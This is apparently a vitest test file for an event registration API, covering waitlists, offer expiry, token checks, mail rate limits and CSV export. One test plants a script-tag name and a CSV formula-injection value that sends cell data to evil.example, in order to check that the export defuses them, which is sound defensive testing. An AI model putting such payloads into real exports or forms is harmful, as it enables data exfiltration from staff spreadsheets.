import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../test/test-app.ts';
import { createRegEvent, mailsTo, person, registerAndConfirm, selfToken, tokensIn, type View } from './registration.fixtures.ts';

const HOUR = 3_600_000;
const rnd = () => Math.random().toString(36).slice(2, 10);
const addr = (name: string) => `${name}-${rnd()}@test.itas.example`;

describe('event registration', () => {
  const t = useTestApp();

  it('waitlists the second person for a full workshop, offers the seat when the first cancels, confirms on acceptance', async () => {
    const ev = await createRegEvent(t, { capacity: 100, workshops: [{ capacity: 1 }] });
    const client = await t.client().init();
    const [ws] = ev.workshops as [string];
    const a = await registerAndConfirm(t, client, ev.slug, addr('a'), { workshopSessionIds: [ws] });
    expect(a.view).toMatchObject({ status: 'confirmed', workshops: [{ sessionId: ws, status: 'confirmed' }] });
    const bMail = addr('b');
    const b = await registerAndConfirm(t, client, ev.slug, bMail, { workshopSessionIds: [ws] });
    expect(b.view).toMatchObject({ status: 'confirmed', workshops: [{ status: 'waitlisted', waitlistPosition: 1 }] });

    const cancelled = await client.post('/api/registrations/self/cancel', { token: a.token });
    expect(cancelled.json()).toMatchObject({ status: 'cancelled', workshops: [{ status: 'cancelled' }] });

    const offers = (await mailsTo(t, bMail)).filter((m) => m.subject.startsWith('Ein Platz ist frei geworden'));
    expect(offers).toHaveLength(1);
    expect(offers[0]!.text_body).toContain('Workshop 1');
    const token = await selfToken(t, client, bMail);
    const seen = (await client.post('/api/registrations/self', { token })).json<View>();
    expect(seen.workshops[0]).toMatchObject({ status: 'offered' });
    expect(Date.parse(seen.workshops[0]!.offerExpiresAt!)).toBe(t.now.getTime() + 48 * HOUR);

    const accepted = await client.post('/api/registrations/self/accept', { token, sessionId: ws });
    expect(accepted.statusCode, accepted.body).toBe(200);
    expect(accepted.json()).toMatchObject({ status: 'confirmed', workshops: [{ status: 'confirmed', offerExpiresAt: null }] });
  });

  it('refuses a late acceptance with 409 and offers the seat to the next person', async () => {
    const ev = await createRegEvent(t, { capacity: 1 });
    const client = await t.client().init();
    const a = await registerAndConfirm(t, client, ev.slug, addr('a'));
    const bMail = addr('b');
    const cMail = addr('c');
    expect((await registerAndConfirm(t, client, ev.slug, bMail)).view).toMatchObject({ status: 'waitlisted', waitlistPosition: 1 });
    expect((await registerAndConfirm(t, client, ev.slug, cMail)).view).toMatchObject({ status: 'waitlisted', waitlistPosition: 2 });
    await client.post('/api/registrations/self/cancel', { token: a.token });
    const bToken = await selfToken(t, client, bMail);

    t.advance(48 * HOUR + 1000);
    const late = await client.post('/api/registrations/self/accept', { token: bToken });
    expect(late.statusCode).toBe(409);
    expect(late.json().error).toMatchObject({ code: 'registration.offer_expired', message: 'Das Angebot ist abgelaufen.' });
    expect((await client.post('/api/registrations/self', { token: bToken })).json()).toMatchObject({ status: 'expired' });
    const cToken = await selfToken(t, client, cMail);
    expect((await client.post('/api/registrations/self', { token: cToken })).json()).toMatchObject({ status: 'offered' });
    expect((await client.post('/api/registrations/self/accept', { token: cToken })).json()).toMatchObject({ status: 'confirmed' });
  });

  it('passes run-out offers on in expireOffers(now) without anybody looking', async () => {
    const ev = await createRegEvent(t, { capacity: 1 });
    const client = await t.client().init();
    const a = await registerAndConfirm(t, client, ev.slug, addr('a'));
    await registerAndConfirm(t, client, ev.slug, addr('b'));
    const cMail = addr('c');
    await registerAndConfirm(t, client, ev.slug, cMail);
    await client.post('/api/registrations/self/cancel', { token: a.token });
    expect(await t.app.services.registrations.expireOffers(new Date(t.now.getTime() + HOUR))).toBe(0);
    expect(await t.app.services.registrations.expireOffers(new Date(t.now.getTime() + 49 * HOUR))).toBe(1);
    const statuses = await t.database.db.selectFrom('registration').select(['status', 'email']).where('event_id', '=', ev.id).execute();
    expect(statuses.find((r) => r.email === cMail)?.status).toBe('offered');
    expect(statuses.map((r) => r.status).sort()).toEqual(['cancelled', 'expired', 'offered']);
  });

  it('refuses registration after the closing time and for an event that has begun (409)', async () => {
    const closed = await createRegEvent(t);
    await t.app.services.registrations.updateCapacity(closed.staff, closed.id, {
      capacity: null,
      registrationClosesAt: '2026-03-01T12:00:00+01:00',
      sessions: [],
    });
    const past = await createRegEvent(t, { startsAt: '2026-02-01T09:00:00+01:00' });
    const client = await t.client().init();
    for (const slug of [closed.slug, past.slug]) {
      const res = await client.post(`/api/events/${slug}/registrations`, person(addr('spaet')));
      expect(res.statusCode).toBe(409);
      expect(res.json().error).toMatchObject({
        code: 'registration.closed',
        message: 'Die Anmeldung für diese Veranstaltung ist geschlossen.',
      });
    }
    expect(await t.database.db.selectFrom('registration').select('id').where('event_id', 'in', [closed.id, past.id]).execute()).toEqual([]);
    expect((await client.get(`/api/events/${closed.slug}/registration`)).json()).toMatchObject({ open: false });
  });

  it('refuses a workshop of another event and two workshops in one time slot (400)', async () => {
    const ev = await createRegEvent(t, {
      workshops: [
        { capacity: 10, startsAt: '2027-06-10T10:00:00+02:00', endsAt: '2027-06-10T11:00:00+02:00' },
        { capacity: 10, startsAt: '2027-06-10T10:30:00+02:00', endsAt: '2027-06-10T11:30:00+02:00' },
      ],
    });
    const other = await createRegEvent(t, { workshops: [{ capacity: 10 }] });
    const client = await t.client().init();
    const foreign = await client.post(`/api/events/${ev.slug}/registrations`, person(addr('x'), { workshopSessionIds: other.workshops }));
    expect(foreign.statusCode).toBe(400);
    expect(foreign.json().error.code).toBe('registration.workshop_invalid');
    const clash = await client.post(`/api/events/${ev.slug}/registrations`, person(addr('y'), { workshopSessionIds: ev.workshops }));
    expect(clash.statusCode).toBe(400);
    expect(clash.json().error.fields[0].path).toBe('workshopSessionIds.1');
  });

  it('treats case variants of an address as one person and answers exactly alike', async () => {
    const ev = await createRegEvent(t, { capacity: 10 });
    const client = await t.client().init();
    const local = `Erika.${rnd()}`;
    const first = `${local}@Test.ITAS.example`;
    await registerAndConfirm(t, client, ev.slug, first);
    t.advance(5 * 60_000); // past the cool-down against mail bombing
    const again = await client.post(`/api/events/${ev.slug}/registrations`, person(` ${local.toUpperCase()}@test.itas.example `));
    const fresh = await client.post(`/api/events/${ev.slug}/registrations`, person(addr('neu')));
    expect(again.statusCode).toBe(202);
    expect(again.body).toBe(fresh.body);
    const rows = await t.database.db.selectFrom('registration').select(['email', 'status']).where('event_id', '=', ev.id).execute();
    expect(rows.filter((r) => r.email.toLowerCase() === first.toLowerCase())).toEqual([{ email: first, status: 'confirmed' }]);
    const mails = await mailsTo(t, first);
    expect(mails.map((m) => m.subject)).toContain('Sie sind bereits angemeldet: Zukunftsforum Anmeldung');
    expect(await tokensIn(t, first, 'confirm')).toHaveLength(1); // no second opt-in
  });

  it('sends no further mail for repeated registrations of one address within two minutes', async () => {
    const ev = await createRegEvent(t, { capacity: 10 });
    const client = await t.client().init();
    const email = addr('flut');
    for (let i = 0; i < 5; i++) expect((await client.post(`/api/events/${ev.slug}/registrations`, person(email))).statusCode).toBe(202);
    expect(await mailsTo(t, email)).toHaveLength(1);
    t.advance(3 * 60_000);
    await client.post(`/api/events/${ev.slug}/registrations`, person(email));
    expect(await tokensIn(t, email, 'confirm')).toHaveLength(2);
  });

  it('answers forged and unknown tokens with 404 and changes nothing', async () => {
    const ev = await createRegEvent(t, { capacity: 10 });
    const client = await t.client().init();
    const { token } = await registerAndConfirm(t, client, ev.slug, addr('echt'));
    const snapshot = async () => t.database.db.selectFrom('registration').selectAll().where('event_id', '=', ev.id).execute();
    const before = await snapshot();
    const forged = [token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A'), 'x'.repeat(43)];
    for (const bad of forged) {
      for (const [url, body] of [
        ['/api/registrations/confirm', { token: bad }],
        ['/api/registrations/self', { token: bad }],
        ['/api/registrations/self/workshops', { token: bad, workshopSessionIds: [] }],
        ['/api/registrations/self/cancel', { token: bad }],
        ['/api/registrations/self/accept', { token: bad }],
      ] as const) {
        const res = await client.post(url, body);
        expect(res.statusCode, url).toBe(404);
        expect(res.json().error.code).toBe('registration.not_found');
      }
    }
    expect(await snapshot()).toEqual(before);
  });

  it('keeps <script> in names byte-exact and defuses formulas in the CSV export', async () => {
    const ev = await createRegEvent(t, { capacity: 10 });
    const client = await t.client().init();
    const name = '<script>alert(1)</script> Ümit';
    const organisation = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")';
    await registerAndConfirm(t, client, ev.slug, addr('xss'), { name, organisation });
    const staff = (await t.signIn({ role: 'staff', org: 'amz' })).client;
    const list = await staff.get(`/api/events/${ev.id}/registrations`);
    expect(list.json().items[0]).toMatchObject({ name, organisation, status: 'confirmed' });
    expect(list.json().counts).toMatchObject({ confirmed: 1, waitlisted: 0 });
    const csv = await staff.get(`/api/events/${ev.id}/registrations.csv`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.startsWith('\uFEFF')).toBe(true);
    expect(csv.body).toContain(name);
    expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klick"")"`);
  });

  it('frees a workshop seat when a person switches workshops, and offers it to the next in line', async () => {
    const ev = await createRegEvent(t, {
      capacity: null,
      workshops: [
        { capacity: 1, startsAt: '2027-06-10T10:00:00+02:00', endsAt: '2027-06-10T11:00:00+02:00' },
        { capacity: 1, startsAt: '2027-06-10T10:00:00+02:00', endsAt: '2027-06-10T11:00:00+02:00' },
      ],
    });
    const [w1, w2] = ev.workshops as [string, string];
    const client = await t.client().init();
    const a = await registerAndConfirm(t, client, ev.slug, addr('a'), { workshopSessionIds: [w1] });
    const bMail = addr('b');
    await registerAndConfirm(t, client, ev.slug, bMail, { workshopSessionIds: [w1] });
    const both = await client.post('/api/registrations/self/workshops', { token: a.token, workshopSessionIds: [w1, w2] });
    expect(both.statusCode).toBe(400);
    const switched = await client.post('/api/registrations/self/workshops', { token: a.token, workshopSessionIds: [w2] });
    expect(switched.statusCode, switched.body).toBe(200);
    expect(switched.json<View>().workshops.map((w) => [w.sessionId, w.status])).toEqual(
      expect.arrayContaining([
        [w1, 'cancelled'],
        [w2, 'confirmed'],
      ]),
    );
    const bToken = await selfToken(t, client, bMail);
    expect((await client.post('/api/registrations/self', { token: bToken })).json<View>().workshops[0]).toMatchObject({
      sessionId: w1,
      status: 'offered',
    });
  });

  it('offers new seats to the waitlist when staff raise the capacity', async () => {
    const ev = await createRegEvent(t, { capacity: 1 });
    const client = await t.client().init();
    await registerAndConfirm(t, client, ev.slug, addr('a'));
    const bMail = addr('b');
    await registerAndConfirm(t, client, ev.slug, bMail);
    const staff = (await t.signIn({ role: 'staff', org: 'cwe' })).client;
    const before = (await staff.get(`/api/events/${ev.id}/registrations`)).json();
    const res = await staff.request('PUT', `/api/events/${ev.id}/capacity`, {
      capacity: 2,
      registrationClosesAt: null,
      sessions: [],
      version: before.event.version,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().counts).toMatchObject({ confirmed: 1, offered: 1, waitlisted: 0 });
    expect((await mailsTo(t, bMail)).some((m) => m.subject.startsWith('Ein Platz ist frei geworden'))).toBe(true);
    const stale = await staff.request('PUT', `/api/events/${ev.id}/capacity`, {
      capacity: 5,
      registrationClosesAt: null,
      sessions: [],
      version: before.event.version,
    });
    expect(stale.statusCode).toBe(409);
  });

  it('does not let the public register for an internal event', async () => {
    const ev = await createRegEvent(t);
    await t.database.db.updateTable('event').set({ visibility: 'internal' }).where('id', '=', ev.id).execute();
    const client = await t.client().init();
    expect((await client.post(`/api/events/${ev.slug}/registrations`, person(addr('intern')))).statusCode).toBe(404);
    expect((await client.get(`/api/events/${ev.slug}/registration`)).statusCode).toBe(404);
  });

  it('gives exactly 30 of 50 concurrent confirmations a seat and queues the rest in confirmation order', async () => {
    const ev = await createRegEvent(t, { capacity: 30 });
    const client = await t.client().init();
    const emails = Array.from({ length: 50 }, (_, i) => addr(`p${i}`));
    for (const email of emails) expect((await client.post(`/api/events/${ev.slug}/registrations`, person(email))).statusCode).toBe(202);
    const tokens = await Promise.all(emails.map(async (e) => (await tokensIn(t, e, 'confirm'))[0]!));
    const results = await Promise.all(tokens.map((token) => client.post('/api/registrations/confirm', { token })));
    expect(results.map((r) => r.statusCode)).toEqual(emails.map(() => 200));
    const views = results.map((r) => r.json<View>());
    expect(views.filter((v) => v.status === 'confirmed')).toHaveLength(30);
    expect(views.filter((v) => v.status === 'waitlisted')).toHaveLength(20);

    const rows = await t.database.db
      .selectFrom('registration')
      .select(['status', 'queue_seq'])
      .where('event_id', '=', ev.id)
      .orderBy('queue_seq')
      .execute();
    expect(rows.map((r) => r.queue_seq)).toEqual(Array.from({ length: 50 }, (_, i) => i + 1));
    // The first 30 in the queue hold the seats, the other 20 wait in that order.
    expect(rows.map((r) => r.status)).toEqual([...Array(30).fill('confirmed'), ...Array(20).fill('waitlisted')]);
    const positions = views.filter((v) => v.status === 'waitlisted').map((v) => v.waitlistPosition);
    expect(new Set(positions).size).toBe(20);
  });
});
